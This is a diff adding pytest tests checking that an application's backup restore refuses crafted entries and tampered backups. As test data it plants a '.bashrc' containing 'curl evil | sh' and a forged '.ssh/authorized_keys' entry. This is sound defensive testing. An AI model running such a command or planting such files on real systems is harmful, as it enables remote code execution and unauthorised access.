@@ -12,14 +12,16 @@ from __future__ import annotations
 import os
 import shutil
 import signal
+import sqlite3
 import subprocess
 import sys
 import time
+from contextlib import closing
 from pathlib import Path
 
 import pytest
 
-from hwcore.application import ChangeKind
+from hwcore.application import ChangeKind, InvalidValueError, backup_store, restore_store
 from hwcore.bootstrap import open_application
 from tests.conftest import TODAY
 from tests.integration.test_durability import digest, filled, hw, one_clear_line
@@ -126,3 +128,53 @@ def test_a_killed_backup_leaves_no_copy_behind(home: Path, tmp_path: Path) -> No
     assert result.returncode == 0, result.stderr
     assert [p.name for p in target.glob(".hw-backup-*.tmp")] == [alive.name]
     assert (target / "second.hwbackup").is_file()
+
+
+def _backup(home: Path, target: Path) -> Path:
+    with open_application(home, today=lambda: TODAY) as app:
+        backup_store(app, target)
+    return target
+
+
+def test_restore_writes_only_the_files_hw_backs_up(home: Path, tmp_path: Path) -> None:
+    """A crafted backup naming a dot-file or the store's log plants nothing."""
+    filled(home)
+    (home / "config.json").write_text('{"clinic.name": "Invented Practice"}', encoding="utf-8")
+    (home / ".bashrc").write_text("echo never backed up\n", encoding="utf-8")
+    backup = _backup(home, tmp_path / "hw.backup")
+    with closing(sqlite3.connect(backup)) as conn:
+        names = [r[0] for r in conn.execute("SELECT path FROM files ORDER BY path")]
+        assert names == ["config.json"]  # hidden files are not the home's own
+        crafted = [
+            (".bashrc", 0o600, b"curl evil | sh\n"),
+            ("events.sqlite-wal", 0o600, b"\x37\x7f\x06\x82 a forged log"),
+            (".ssh/authorized_keys", 0o600, b"ssh-ed25519 AAAA invented"),
+        ]
+        conn.executemany("INSERT INTO files VALUES (?, ?, ?)", crafted)
+        # An older backup carries no files digest: the names alone must be refused.
+        conn.execute("DELETE FROM meta WHERE key = 'files_digest'")
+        conn.commit()
+    target = tmp_path / "restored"
+    with open_application(target, today=lambda: TODAY) as app:
+        report = restore_store(app, backup)
+        assert report.files == 1
+        assert len(app.client_names()) == 40
+    assert sorted(
+        p.name for p in target.iterdir() if not p.name.startswith(("events", "read"))
+    ) == ["config.json"]
+    assert not (target / ".ssh").exists()
+
+
+def test_a_backup_whose_files_were_changed_is_refused_whole(home: Path, tmp_path: Path) -> None:
+    filled(home)
+    (home / "config.json").write_text('{"clinic.name": "Invented Practice"}', encoding="utf-8")
+    backup = _backup(home, tmp_path / "hw.backup")
+    with closing(sqlite3.connect(backup)) as conn:
+        conn.execute("UPDATE files SET content = ? WHERE path = 'config.json'", (b"{}",))
+        conn.commit()
+    target = tmp_path / "restored"
+    with open_application(target, today=lambda: TODAY) as app:
+        with pytest.raises(InvalidValueError, match="files digest"):
+            restore_store(app, backup)
+        assert app.client_names() == []
+    assert not (target / "config.json").exists()
